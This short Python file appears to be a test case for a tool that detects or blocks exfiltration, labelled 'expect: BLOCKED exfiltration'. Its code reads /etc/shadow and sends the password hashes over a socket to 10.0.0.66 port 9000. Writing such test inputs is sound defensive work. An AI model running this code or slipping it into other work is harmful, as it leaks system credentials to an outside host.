# expect: BLOCKED exfiltration
import socket
with open("/etc/shadow") as f:
    data = f.read()
s = socket.socket()
s.connect(("10.0.0.66", 9000))
s.sendall(data.encode())
s.close()
